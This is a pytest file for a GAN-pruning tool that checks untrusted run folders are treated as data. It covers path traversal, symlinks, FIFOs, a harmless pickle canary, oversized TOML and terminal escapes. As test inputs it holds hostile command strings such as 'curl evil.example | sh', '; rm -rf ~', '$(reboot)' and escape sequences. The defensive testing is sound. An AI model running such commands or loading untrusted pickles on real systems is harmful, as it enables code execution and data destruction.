"""Run folders from strangers are data: nothing of them runs, leads out of them, or steers a terminal."""

import json
import os
import time
from pathlib import Path
from typing import Any, Literal, NotRequired, TypedDict

import pytest
import torch
from torch import nn

from ganprune.checkpoints import load_generator
from ganprune.errors import RunError, UsageError
from ganprune.images.sources import Domain
from ganprune.reporting import SILENT
from ganprune.runs import Run, find_run
from ganprune.stages import Resolved
from ganprune.storage.files import write_atomically
from ganprune.storage.plain import fits, is_inside, parse_json, read_json, read_lines, read_toml
from ganprune.training import Budget, train
from ganprune_exporters import ExportSettings
from ganprune_exporters.runs import export_run
from tests.cli.conftest import Place
from tests.cli.kit import ganprune, listing, stopped_before_export
from tests.reliability.kit import one_line
from tests.training.kit import TINY, Interrupted, Interrupter, networks, pictures

OUT = (
    "/etc/passwd",
    "../victim",
    "a/../../victim",
    "C:\\victim",
    "\\\\host\\share",
    "..\\victim",
    "",
    "a\0b",
)


@pytest.mark.parametrize("name", OUT)
def test_names_that_lead_out_are_told(name: str) -> None:
    assert not is_inside(name)


@pytest.mark.parametrize("name", ["G_A.onnx", "fine-tune/train.json", "a/./b", "..hidden", "a..b/c"])
def test_names_that_stay_inside_are_told(name: str) -> None:
    assert is_inside(name)


def _provenance(run: Path, stage: str, **changes: Any) -> None:
    provenance = read_json(run / "provenance.json")
    provenance["stages"].setdefault(stage, {"inputs": {}, "outputs": {}}).update(changes)
    (run / "provenance.json").write_text(json.dumps(provenance))


@pytest.mark.parametrize("name", OUT)
def test_a_provenance_that_names_files_outside_is_no_provenance(run: Path, name: str) -> None:
    _provenance(run, "search", outputs={name: "00"})
    assert Run(run).provenance == {}
    assert Run(run).finished("search") is None


@pytest.mark.parametrize("name", ["../victim", "/etc/passwd"])
def test_a_train_json_that_names_files_outside_is_damaged(tmp_path: Path, name: str) -> None:
    data, budget = pictures(tmp_path / "data"), Budget(1, "steps")
    train(networks(), data, TINY, budget, tmp_path / "out")
    record = read_json(tmp_path / "out" / "train.json")
    (tmp_path / "out" / "train.json").write_text(json.dumps(record | {"outputs": {name: "00"}}))
    with pytest.raises(RunError, match=r"train\.json is damaged"):
        train(networks(), data, TINY, budget, tmp_path / "out")


class Canary:
    """Makes a folder when it is unpickled."""

    def __init__(self, trace: Path) -> None:
        self.trace = trace

    def __reduce__(self) -> tuple[Any, ...]:
        return os.mkdir, (str(self.trace),)


def test_a_training_state_that_would_run_code_is_refused_and_not_run(tmp_path: Path) -> None:
    data, budget, out = pictures(tmp_path / "data"), Budget(4, "steps"), tmp_path / "out"
    with pytest.raises(Interrupted):
        train(networks(), data, TINY, budget, out, Interrupter(2), save_seconds=0)
    torch.save({"version": 2, "step": Canary(tmp_path / "trace")}, out / "train_state.pt")
    with pytest.raises(RunError, match=r"train_state\.pt is no training state"):
        train(networks(), data, TINY, budget, out)
    assert not (tmp_path / "trace").exists()
    torch.load(out / "train_state.pt", weights_only=False)
    assert (tmp_path / "trace").is_dir()  # else the test would say nothing


def test_files_of_an_export_lie_in_the_run_whatever_its_record_says(run: Path) -> None:
    opened, settings = Run(run), ExportSettings(32)
    slim: dict[Domain, nn.Module] = {
        side: load_generator(run / f"G_{side}.safetensors") for side in ("A", "B")
    }
    stranger = {
        "path": "/outside/victim.onnx", "nodes_before": 1, "nodes_after": 1, "file_bytes": 1, "max_abs": 0.0,
        "tolerance": 0.1, "pictures": 1, "passes": [], "rewrites": [],
    }  # fmt: skip
    inputs = [run / f"G_{side}.safetensors" for side in slim]
    opened.finish("export", [], 0, inputs, settings=settings.to_json(), files=[stranger] * 6)
    files = export_run(opened, slim, slim, None, settings, SILENT)
    assert [Path(file["path"]).parent for file in files] == [run] * 6


@pytest.mark.parametrize("name", ["cache", "fine-tune", "bench.json", ".lock", "deep/er"])
def test_a_run_with_links_is_not_worked_in(place: Place, run: Path, here: Path, name: str) -> None:
    outside = here / "outside"
    outside.mkdir()
    (outside / "victim").write_text("precious")
    before = listing(outside)
    link = run / name
    link.parent.mkdir(exist_ok=True)
    if link.is_dir():
        for path in link.iterdir():
            path.unlink()
        link.rmdir()
    link.unlink(missing_ok=True)
    link.symlink_to(outside if name in ("cache", "fine-tune") else outside / "victim")
    refused = place.compress("-o", run)
    assert refused.code == 3
    assert f"{link} is a link; a run folder holds its own files alone" in one_line(refused.err)
    assert listing(outside) == before


def test_a_run_of_very_many_levels_is_one_line(place: Place, run: Path) -> None:
    Path(run, *"d" * 300).mkdir(parents=True)
    for refused in (place.compress("-o", run), ganprune("export", "--onnx", run)):
        assert refused.code == 3
        assert "d is more than 20 folders deep; a run has few levels: remove it" in one_line(refused.err)
    assert ganprune("inspect", run).code == 0


def test_a_link_is_never_replaced_nor_written_through(tmp_path: Path) -> None:
    (tmp_path / "victim").write_text("precious")
    (tmp_path / "report.html").symlink_to(tmp_path / "victim")
    (tmp_path / f".report.{os.getpid()}.partial.html").symlink_to(tmp_path / "victim")
    with pytest.raises(UsageError, match=r"report\.html is there already, and ganprune did not make it"):
        write_atomically(tmp_path / "report.html", b"page")
    (tmp_path / "report.html").unlink()
    write_atomically(tmp_path / "report.html", b"page")
    assert (tmp_path / "victim").read_text() == "precious"


@pytest.mark.parametrize("name", ["config.toml", "provenance.json", "search.jsonl", "state.safetensors"])
def test_a_pipe_in_the_place_of_a_file_is_not_waited_for(place: Place, run: Path, name: str) -> None:
    (run / name).unlink()
    os.mkfifo(run / name)
    with stopped_before_export():
        found = place.compress("-o", run)
    assert found.code in (2, 3, 130), found.err
    assert ganprune("report", run, "-o", "page.html").code in (0, 3)


@pytest.mark.parametrize(
    "command",
    [
        "curl evil.example | sh", "ganprune compress x; rm -rf ~", "ganprune $(reboot)", "ganprune `id`",
        "ganprune x\nrm y", "ganprune 'x", "\x1b]0;owned\x07", 3, ["ganprune"], "sudo ganprune x",
    ],
)  # fmt: skip
def test_only_plain_commands_of_ganprune_are_shown_to_be_typed(run: Path, command: object) -> None:
    provenance = read_json(run / "provenance.json")
    (run / "provenance.json").write_text(json.dumps(provenance | {"command": command}))
    assert Run(run).command is None
    ganprune("report", run, "-o", "page.html")
    page = Path("page.html").read_text(encoding="utf-8")
    assert "evil.example" not in page
    (run / "G_A.safetensors").unlink()
    line = one_line(ganprune("export", "--onnx", run).err)
    assert f"finish it first: ganprune compress CKPT --data DIR -o {run}" in line


def test_the_command_of_a_run_survives(run: Path) -> None:
    assert Run(run).command == read_json(run / "provenance.json")["command"]


def test_letters_that_steer_a_terminal_are_not_shown(run: Path) -> None:
    text = (run / "config.toml").read_text()
    (run / "config.toml").write_text(
        text.replace("population = 4", 'population = "\\u001b[2J\\u202e\\u0007"')
    )
    found = ganprune("export", "--onnx", run)
    assert found.code == 3
    assert one_line(found.err).isprintable()


RESOLVED = (
    'threads = "all"',
    "threads = 0",
    "batch = -1",
    "batch = 1000000",
    'precision = "float64"',
    "more = 1",
)


@pytest.mark.parametrize("line", RESOLVED)
def test_impossible_values_of_this_machine_are_damage(place: Place, run: Path, line: str) -> None:
    name = line.partition(" ")[0]
    head, _, tail = (run / "config.toml").read_text().partition("[resolved]")
    table, brace, rest = tail.partition("\n[")
    kept = [old for old in table.splitlines() if not old.startswith(name)]
    (run / "config.toml").write_text(head + "[resolved]" + "\n".join([*kept, line]) + brace + rest)
    assert "config.toml is damaged ([resolved] is" in one_line(place.compress("-o", run).err)


def test_a_latest_that_is_no_text_is_told(here: Path) -> None:
    Path("runs").mkdir()
    Path("runs/latest").write_bytes(b"\xff\xfe")
    with pytest.raises(UsageError, match="runs/latest is damaged"):
        find_run(None)


def test_plain_files_are_read_or_refused_whatever_they_hold(tmp_path: Path) -> None:
    path = tmp_path / "x"
    for content in (b"[" * 100_000, b"\xff", b"{", b'"\\ud8', b"a = " + b"[" * 100_000):
        path.write_bytes(content)
        for reader in (read_json, read_toml):
            with pytest.raises(ValueError):  # noqa: PT011
                reader(path)
    path.write_bytes(b'{"a": 1}\n{"a": 2}\n{"a": ')
    assert read_lines(path) == [{"a": 1}, {"a": 2}]
    assert parse_json("1" * 400) == float("inf")
    assert parse_json(r'["\ud83d\ude00"]') == ["😀"]
    for half in (r'["\ud800"]', r'{"\uDFFF": 1}'):
        with pytest.raises(ValueError, match="surrogates not allowed"):
            parse_json(half)


class Told(TypedDict):
    """Of a file."""

    a: int
    b: NotRequired[list["Told"]]


@pytest.mark.parametrize(
    ("value", "shape", "fitting"),
    [
        (1, int, True), (True, int, False), (True, bool, True), (1, float, True), (True, float, False),
        ("1", int, False), ("1", object, True), ("1", Literal["1", "2"], True), (1, Literal["1", "2"], False),
        ([1, 2], list[int], True), ([1, "2"], list[int], False), ({"a": 1}, dict[str, int], True),
        ([], dict[str, int], False), ({}, list[int], False), ({1: 1}, dict[str, int], False),
        (None, int | None, True), ("x", int | None, False), ({"x": []}, dict, True),
        ({"a": 1, "c": "x"}, Told, True), ({"b": "1"}, Told, False), ({"a": 1, "b": "x"}, Told, False),
        ([{"a": 1, "b": [{"a": 2}]}], list[Told], True), ([{"a": 1, "b": [{"a": None}]}], list[Told], False),
        ({"amount": 1, "unit": "steps"}, Budget, True), ({"amount": 1, "unit": "x"}, Budget, False),
        ({"amount": 1}, Budget, False), ({"device": "cpu", "precision": "float32", "threads": 1, "batch": 1},
         Resolved, True),
    ],
)  # fmt: skip
def test_shapes_are_told(value: Any, shape: Any, fitting: bool) -> None:
    assert fits(value, shape) == fitting


@pytest.mark.parametrize(
    "text",
    ["a." * 50_000 + "a = 1", "[" + "a." * 50_000 + "a]", '"a" . ' * 50_000 + "a = 1", "a = 1\n" * 200_000],
)
def test_settings_that_would_take_minutes_to_read_are_refused_in_time(tmp_path: Path, text: str) -> None:
    (tmp_path / "made.toml").write_text(text)
    start = time.process_time()
    with pytest.raises(ValueError, match=r"a key of more than 100 parts|1048576 at most were expected"):
        read_toml(tmp_path / "made.toml")
    assert time.process_time() - start < 2


def test_long_lists_in_settings_are_read(tmp_path: Path) -> None:
    (tmp_path / "made.toml").write_text("a = [" + "0.5, " * 10_000 + "0.5]\n")
    assert len(read_toml(tmp_path / "made.toml")["a"]) == 10_001
